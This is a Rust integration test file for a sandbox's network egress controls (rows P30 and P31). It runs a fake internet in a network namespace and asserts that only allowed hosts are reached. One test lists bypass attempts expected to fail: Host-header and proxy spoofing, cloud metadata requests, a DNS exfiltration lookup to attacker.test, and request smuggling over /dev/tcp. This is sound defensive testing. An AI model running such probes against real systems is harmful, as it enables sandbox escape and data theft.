//! The network of a sandbox, with names and hosts that are served in a network namespace of the test: rows
//! P30 and P31, and clients that know no proxy.

use std::fs;
use std::io::{BufRead as _, BufReader};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};

use serde_json::Value;
use testkit::{Machine, Run, eventually};

use crate::site::{Site, USUAL, has_bubblewrap};

/// Addresses of the internet, of a cloud's metadata and of an office, all on the loopback of the test.
const NETWORK: &str = "\
set -e
ip link set lo up
for a in 93.184.216.34 93.184.216.35 169.254.169.254 10.0.0.1; do ip addr add $a/32 dev lo; done
mount --make-rprivate /
mount --bind $1/hosts /etc/hosts
exec /usr/bin/python3 $1/server.py $1
";

const HOSTS: &str = "\
127.0.0.1 localhost
93.184.216.34 ok.test www.ok.test
93.184.216.35 no.test other.test bad.test sub.no.test
169.254.169.254 meta.test
127.0.0.1 loop.test
10.0.0.1 lan.test
";

/// Says who was connected with, and answers with the request's Host or with what was sent.
const SERVER: &str = r"
import http.server, socket, ssl, sys, threading
root = sys.argv[1]
log = open(root + '/accepted', 'a', buffering=1)
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def do_GET(self):
        body = ('hello from %s%s\n' % (self.headers['Host'], self.path)).encode()
        self.send_response(200); self.send_header('Content-Length', str(len(body))); self.end_headers()
        self.wfile.write(body)
    def do_POST(self):
        body = self.rfile.read(int(self.headers['Content-Length'])); text = ('%d bytes\n' % len(body)).encode()
        self.send_response(200); self.send_header('Content-Length', str(len(text))); self.end_headers()
        self.wfile.write(text)
    def log_message(self, *a): pass
class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    def get_request(self):
        pair = super().get_request()
        log.write('%s:%d\n' % self.server_address[:2])
        return pair
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(root + '/cert.pem', root + '/key.pem')
def serve(address, port, tls):
    server = Server((address, port), Handler)
    if tls: server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
    threading.Thread(target=server.serve_forever, daemon=True).start()
for address in ['93.184.216.34', '93.184.216.35', '169.254.169.254', '10.0.0.1', '127.0.0.1']:
    for port, tls in [(80, False), (443, True), (8443, True), (9000, False)]:
        serve(address, port, tls)
print('ready', flush=True)
sys.stdin.read()
";

/// A machine in a small internet of its own.
pub struct Internet {
    pub site: Site,
    holder: Child,
    directory: PathBuf,
}

impl Internet {
    /// `None` where this user cannot make one.
    fn around(machine: Machine, settings: &str) -> Option<Self> {
        if !testkit::is_root() {
            println!("skipped: only root can make a network with names of its own");
            return None;
        }
        let site = Site::started(machine, USUAL);
        let directory = site.machine.root().join("internet");
        fs::create_dir(&directory).unwrap();
        for (name, text) in [("hosts", HOSTS), ("server.py", SERVER), ("accepted", "")] {
            fs::write(directory.join(name), text).unwrap();
        }
        let made = Command::new("/usr/bin/openssl")
            .args([
                "req",
                "-x509",
                "-newkey",
                "ec",
                "-pkeyopt",
                "ec_paramgen_curve:prime256v1",
            ])
            .args([
                "-nodes",
                "-days",
                "2",
                "-subj",
                "/CN=ok.test",
                "-keyout",
                "key.pem",
                "-out",
                "cert.pem",
            ])
            .current_dir(&directory)
            .stderr(Stdio::null())
            .status();
        assert!(made.is_ok_and(|made| made.success()), "openssl is needed");
        let mut holder = Command::new("/usr/bin/unshare")
            .args(["-n", "-m", "--", "/bin/sh", "-c", NETWORK, "sh"])
            .arg(&directory)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut line = String::new();
        let said = BufReader::new(holder.stdout.take().unwrap()).read_line(&mut line);
        assert!(said.is_ok() && line == "ready\n", "{line}");
        let internet = Self {
            site,
            holder,
            directory,
        };
        internet.site.configure(&format!("{USUAL}, {settings}"));
        Some(internet)
    }

    /// Runs a test in both, and once more with namespaces that bubblewrap made.
    fn with_every_backend(settings: &str, test: impl Fn(&Self)) {
        Self::everywhere(settings, &test);
        if has_bubblewrap() {
            Self::everywhere(&format!("{settings}, backend: 'bwrap'"), &test);
        }
    }

    /// Runs a test in one of root's and in one of an ordinary user's.
    pub fn everywhere(settings: &str, test: impl Fn(&Self)) {
        if let Some(internet) = Self::around(Machine::new(), settings) {
            test(&internet);
        }
        let ordinary = testkit::is_root().then(Machine::of_ordinary_user).flatten();
        if let Some(internet) = ordinary.and_then(|machine| Self::around(machine, settings)) {
            test(&internet);
        }
    }

    /// A command of the machine, in this internet.
    pub fn run(&self, arguments: &[&str]) -> Run {
        testkit::finish(&mut self.command(arguments))
    }

    /// The same, which goes on.
    pub fn start(&self, arguments: &[&str]) -> Child {
        let mut command = self.command(arguments);
        command.stdout(Stdio::null()).stderr(Stdio::null());
        command.spawn().unwrap()
    }

    pub fn command(&self, arguments: &[&str]) -> Command {
        let own = self.site.machine.command(arguments);
        let mut command = Command::new("/usr/bin/nsenter");
        command
            .args(["-t", &self.holder.id().to_string(), "-n", "-m"])
            .arg(format!("--wd={}", self.site.work().display()))
            .arg("--")
            .arg(own.get_program())
            .args(own.get_args())
            .env_clear()
            .stdin(Stdio::null());
        for (name, value) in own.get_envs() {
            command.env(name, value.unwrap_or_default());
        }
        command
    }

    pub fn inside(&self, text: &str) -> Run {
        self.run(&["exec", "--timeout", "60", "--", text])
    }

    /// Connections as the audit has them: verdict, host and port, reason.
    pub fn audit(&self) -> Vec<Value> {
        let listed = self
            .run(&["audit", "log", "--kind", "connection", "--json"])
            .json();
        let records = listed["records"].as_array().unwrap();
        records
            .iter()
            .map(|record| record["body"].clone())
            .collect()
    }

    pub fn accepted(&self) -> String {
        fs::read_to_string(self.directory.join("accepted")).unwrap()
    }
}

impl Drop for Internet {
    fn drop(&mut self) {
        let _ = self.holder.kill();
        let _ = self.holder.wait();
    }
}

pub fn places(records: &[Value], verdict: &str) -> Vec<String> {
    let mut places: Vec<String> = records
        .iter()
        .filter(|record| record["verdict"] == verdict)
        .map(|record| {
            let host = record["host"].as_str().unwrap();
            match record["port"].as_u64() {
                Some(port) => format!("{host}:{port}"),
                None => host.to_owned(),
            }
        })
        .collect();
    places.sort();
    places
}

const CURL: &str = "curl -sk --max-time 10";

/// P30: one host on one port, and nothing else.
#[test]
fn only_the_listed_host_is_reached_on_its_port() {
    Internet::with_every_backend("network: { allow: ['ok.test:443'] }", |net| {
        let run = net.inside(&format!("{CURL} https://ok.test/page"));
        assert_eq!(run.stdout, "hello from ok.test/page\n", "{run:#?}");
        for other in [
            "https://no.test/",
            "https://93.184.216.34/",
            "https://ok.test:8443/",
        ] {
            let run = net.inside(&format!("{CURL} {other}"));
            assert!(run.code != 0 && run.stdout.is_empty(), "{other}: {run:#?}");
        }
        let records = net.audit();
        assert_eq!(
            places(&records, "denied"),
            ["93.184.216.34:443", "no.test:443", "ok.test:8443"],
            "{records:#?}"
        );
        assert_eq!(places(&records, "allowed"), ["ok.test:443"], "{records:#?}");
        let allowed = records
            .iter()
            .find(|record| record["verdict"] == "allowed")
            .unwrap();
        assert_eq!(allowed["address"], "93.184.216.34");
        assert_eq!(allowed["scope"], "agent main");
        assert!(allowed["bytesSent"].as_u64().unwrap() > 200, "{allowed}");
        assert!(
            allowed["bytesReceived"].as_u64().unwrap() > 200,
            "{allowed}"
        );
        assert_eq!(net.accepted(), "93.184.216.34:443\n");
        let shown = net.run(&["sandbox", "net"]).stdout;
        assert!(
            shown.contains("ok.test:8443") && shown.contains("not in network.allow"),
            "{shown}"
        );
        assert_eq!(net.run(&["audit", "verify"]).code, 0);
    });
}

/// P31: a listed name that leads into the owner's own networks.
#[test]
fn a_name_does_not_lead_to_a_private_address() {
    let settings = "network: { allow: ['meta.test:80', 'loop.test:80', 'lan.test:80', 'lan.test:443', '10.0.0.1:9000'] }";
    Internet::with_every_backend(settings, |net| {
        for name in ["meta.test", "loop.test", "lan.test"] {
            let run = net.inside(&format!("{CURL} http://{name}/"));
            assert!(run.stdout.contains("private address"), "{run:#?}");
        }
        assert_ne!(net.inside(&format!("{CURL} https://lan.test/")).code, 0);
        assert_eq!(net.accepted(), "", "no connection was made");
        let records = net.audit();
        assert_eq!(places(&records, "denied").len(), 4, "{records:#?}");
        // The address itself is an entry, and `private` says that a name may lead there.
        let run = net.inside(&format!("{CURL} http://10.0.0.1:9000/"));
        assert_eq!(run.stdout, "hello from 10.0.0.1:9000/\n", "{run:#?}");
        net.site.configure(&format!(
            "{USUAL}, network: {{ allow: ['lan.test:80 private'] }}"
        ));
        let run = net.inside(&format!("{CURL} http://lan.test/"));
        assert_eq!(run.stdout, "hello from lan.test/\n", "{run:#?}");
    });
}

/// Programs that know no proxy, and those that do.
#[test]
fn clients_need_not_know_of_a_proxy() {
    let settings = "network: { allow: ['ok.test:80', '*.ok.test:443', 'ok.test:9000'], deny: ['ok.test:9000'], ask: false }";
    Internet::everywhere(settings, |net| {
        let fetch = "python3 -c 'import urllib.request as u; print(u.urlopen(\"http://ok.test/a\").read().decode())'";
        let post = "python3 -c 'import urllib.request as u; print(u.urlopen(\"http://ok.test/\", data=b\"x\"*3000000).read().decode())'";
        for (text, expected) in [
            (fetch, "hello from ok.test/a"),
            (post, "3000000 bytes"),
            (
                "curl -s http://ok.test/b http://ok.test/c",
                "hello from ok.test/b\nhello from ok.test/c",
            ),
            ("curl -sk https://www.ok.test/", "hello from www.ok.test/"),
            (
                "curl -s -x http://127.0.0.1:3128 http://ok.test/d",
                "hello from ok.test/d",
            ),
            (
                "curl -sk -x http://127.0.0.1:3128 https://www.ok.test/e",
                "hello from www.ok.test/e",
            ),
            (
                "curl -sp -x http://127.0.0.1:3128 http://ok.test/f",
                "hello from ok.test/f",
            ),
            (
                "curl -sk --socks5-hostname 127.0.0.1:1080 https://www.ok.test/g",
                "hello from www.ok.test/g",
            ),
            (
                "curl -s --socks5 127.0.0.1:1080 http://ok.test/h",
                "hello from ok.test/h",
            ),
            ("getent hosts ok.test | cut -d. -f1,2", "198.18"),
        ] {
            let run = net.inside(text);
            assert_eq!(run.stdout.trim(), expected, "{text}: {run:#?}");
        }
        let before = net.accepted();
        for text in [
            // Another host behind the same name, by every way that a client has.
            "curl -sf --max-time 10 -H 'Host: no.test' http://ok.test/",
            "curl -skf --max-time 10 --connect-to no.test:443:www.ok.test:443 https://no.test/",
            "curl -sf --max-time 10 -x http://127.0.0.1:3128 http://no.test/",
            "curl -skf --max-time 10 -x http://127.0.0.1:3128 https://no.test/",
            "curl -skf --max-time 10 -x http://127.0.0.1:3128 https://93.184.216.35/",
            "curl -skf --max-time 10 -x http://127.0.0.1:3128 --connect-to no.test:443:www.ok.test:443 https://no.test/",
            "curl -skf --max-time 10 --socks5-hostname 127.0.0.1:1080 https://no.test/",
            "curl -sf --max-time 10 -x http://127.0.0.1:3128 http://127.0.0.1:9000/",
            "curl -sf --max-time 10 -x http://127.0.0.1:3128 http://localhost:9000/",
            "curl -sf --max-time 10 --socks5 127.0.0.1:1080 http://169.254.169.254/",
            "curl -sf --max-time 10 http://ok.test:9000/",
            "curl -sf --max-time 10 http://169.254.169.254/latest/meta-data",
            "curl -sf --max-time 10 http://host.internal/",
            "getent hosts c2VjcmV0.attacker.test",
            "python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b\"x\", (\"93.184.216.35\", 9000)); s.recv(1)'",
            "printf 'GET / HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\nGET /2 HTTP/1.1\\r\\nHost: no.test\\r\\n\\r\\n' | timeout 5 bash -c 'exec 3<>/dev/tcp/ok.test/80; cat >&3; cat <&3' | grep -c /2",
        ] {
            let run = net.inside(text);
            assert_ne!(run.code, 0, "{text}: {run:#?}");
        }
        let after = net.accepted();
        let new: Vec<&str> = after[before.len()..].lines().collect();
        assert_eq!(new, ["93.184.216.34:80"], "only the request that was fine");
    });
}

/// The process that serves the network can be killed: a run is refused for a moment, and then served again.
#[test]
fn the_network_is_served_again_when_its_server_dies() {
    Internet::everywhere("network: { allow: ['ok.test:80'] }", |net| {
        let fetch = "curl -s --max-time 5 http://ok.test/";
        let run = net.inside(fetch);
        assert_eq!(run.stdout, "hello from ok.test/\n", "{run:#?}");
        let netd = netd_of(&net.site.machine);
        assert_eq!(netd.len(), 1);
        let status = fs::read_to_string(format!("/proc/{}/status", netd[0])).unwrap();
        for line in ["CapEff:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2"] {
            assert!(status.contains(line), "{status}");
        }
        assert!(!status.contains("Uid:\t0"), "{status}");
        // What it has open is what it was handed; it opens no file of its user.
        let opened = fs::read_dir(format!("/proc/{}/fd", netd[0])).unwrap();
        for link in opened
            .flatten()
            .filter_map(|one| fs::read_link(one.path()).ok())
        {
            let name = link.to_string_lossy().into_owned();
            let is_known = ["socket:", "anon_inode:", "/dev/null"]
                .iter()
                .any(|front| name.starts_with(front))
                || name.ends_with("network.jsonl")
                || name.ends_with("gateway.lock");
            assert!(is_known, "{name}");
        }
        let killed = Command::new("/usr/bin/kill")
            .args(["-9", &netd[0]])
            .status();
        assert!(killed.unwrap().success());
        eventually("another one to serve", || {
            net.inside(fetch).stdout == "hello from ok.test/\n"
        });
        assert_ne!(netd_of(&net.site.machine), netd);
        eventually("the scope to be free", || {
            net.run(&["sandbox", "recreate", "--all"]).code == 0
        });
        eventually("it to end with the last scope", || {
            netd_of(&net.site.machine).is_empty()
        });
    });
}

pub fn netd_of(machine: &Machine) -> Vec<String> {
    crate::scopes::children_named(machine, "interlock-netd")
}

/// The host's own loopback is reached where an entry says so, and Interlock never is.
#[test]
fn host_internal_is_the_loopback_of_the_host_without_the_gateway() {
    Internet::everywhere("network: { allow: ['host.internal:9000'] }", |net| {
        let mut gateway = net.start(&["gateway", "run", "--port", "0"]);
        let lock = net.site.machine.state().join("gateway.lock");
        let mut port = 0;
        eventually("the gateway to listen", || {
            let text = fs::read_to_string(&lock).unwrap_or_default();
            let info: Value = serde_json::from_str(&text).unwrap_or_default();
            let address = info["address"].as_str().unwrap_or_default();
            port = address
                .rsplit(':')
                .next()
                .unwrap_or_default()
                .parse()
                .unwrap_or(0);
            port != 0
        });
        net.site.configure(&format!(
            "{USUAL}, network: {{ allow: ['host.internal:9000', 'host.internal:{port}', '10.0.0.1:{port}', 'loop.test:{port} private'] }}"
        ));
        let run = net.inside(&format!("{CURL} http://host.internal:9000/x"));
        assert_eq!(run.stdout, "hello from host.internal:9000/x\n", "{run:#?}");
        for host in ["host.internal", "10.0.0.1", "loop.test"] {
            let run = net.inside(&format!("{CURL} -f http://{host}:{port}/healthz"));
            assert!(run.code != 0 && run.stdout.is_empty(), "{host}: {run:#?}");
        }
        let records = net.audit();
        let own: Vec<&Value> = records
            .iter()
            .filter(|record| record["reason"] == "a port of Interlock itself")
            .collect();
        assert_eq!(own.len(), 3, "{records:#?}");
        // What serves the network goes on without a gateway.
        gateway.kill().unwrap();
        gateway.wait().unwrap();
        let run = net.inside(&format!("{CURL} http://host.internal:9000/y"));
        assert_eq!(run.stdout, "hello from host.internal:9000/y\n", "{run:#?}");
    });
}

/// What a run may reach is shown where the sandbox is, and the probe holds with a network.
#[test]
fn the_hosts_are_shown_and_the_probe_holds() {
    let settings =
        "network: { allow: ['ok.test:443', '*.ok.test:443'], deny: ['bad.ok.test:*'], ask: false }";
    Internet::everywhere(settings, |net| {
        let run = net.run(&["sandbox", "explain", "--verify"]);
        assert_eq!(run.code, 0, "{run:#?}");
        let shown = "a loopback, and ok.test:443, *.ok.test:443, never bad.ok.test:*";
        assert!(run.stdout.contains(shown), "{run:#?}");
        let records = net
            .run(&["audit", "log", "--kind", "run-started", "--json"])
            .json();
        let sandbox = &records["records"][0]["body"]["sandbox"];
        let hosts = "ok.test:443, *.ok.test:443, never bad.ok.test:*";
        assert_eq!(sandbox["network"], hosts, "{records:#}");
    });
}
